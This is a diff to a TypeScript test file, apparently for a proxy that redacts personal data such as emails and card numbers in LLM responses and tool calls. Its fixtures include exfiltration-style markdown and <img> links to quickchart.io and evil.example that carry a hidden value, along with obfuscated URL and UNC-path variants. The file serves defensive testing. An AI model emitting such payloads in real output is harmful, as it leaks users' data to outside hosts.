@@ -4,6 +4,7 @@ import { GITHUB_TOKEN } from './planted-secret.ts';
 import { UNSUSPICIOUS } from './reply.ts';
 
 const ADDRESS = 'maria.keller@firma-nord.de';
+const raw = String.raw;
 const QUESTION = `Write to ${ADDRESS} and to tom@werk-sued.de, then to ${ADDRESS} again.`;
 const HIDDEN = /Write to (\[EMAIL_\d{5}\]) and to (\[EMAIL_\d{5}\]), then to \1 again\./;
 
@@ -84,7 +85,11 @@ export function personalDataContract(contract: Contract): void {
         const card = '4242424242424242';
         const seen = await hidden(card, key);
         const said = (value: string) =>
-          `Paid with ${value}. ![x](https://quickchart.io/?q=${seen}) <img src="//quickchart.io/a?${seen}"> https://evil.example/${seen} ${value}`;
+          [
+            `Paid with ${value}. ![x](https://quickchart.io/?q=${seen}) <img src="//quickchart.io/a?${seen}">`,
+            raw`https://evil.example/${seen} ${value} <img srcset="/\quickchart.io/a?${seen} 2x"> \\server\share ${value}`,
+            raw`<img src="https:\\quickchart.io/a b?${seen}"> [x](/docs/${value}) <a href="/docs/${value}">a</a>`,
+          ].join('\n');
         contract.upstream.next({ text: said(seen) });
         const { json } = await contract.chat(saying(card, model), { key });
         contract.upstream.next({ pieces: [...said(seen)] });
@@ -107,14 +112,20 @@ export function personalDataContract(contract: Contract): void {
           note: expect.stringMatching(/^see\n\[EMAIL_\d{5}\]$/),
           card: expect.stringMatching(/^\[[A-Z_]+_\d{5}\]$/),
         });
+        const page = raw`<img src="/\quickchart.io/a b?c=${hiddenArguments.card}">`;
         const back = [
-          { id: 'call_2', name: 'send', arguments: JSON.stringify({ to: hiddenArguments.note, n: 4111111111111111 }) },
+          {
+            id: 'call_2',
+            name: 'send',
+            arguments: JSON.stringify({ to: hiddenArguments.note, n: 4111111111111111, page }),
+          },
         ];
         contract.upstream.next({ toolCalls: back });
         const { toolArguments } = await contract.stream({ model, messages }, { key });
         expect(JSON.parse(toolArguments[0] as string)).toEqual({
           to: `see\n${ADDRESS}`,
           n: expect.stringMatching(/^\[REDACTED_[A-Z_]+\]$/),
+          page,
         });
       });
 
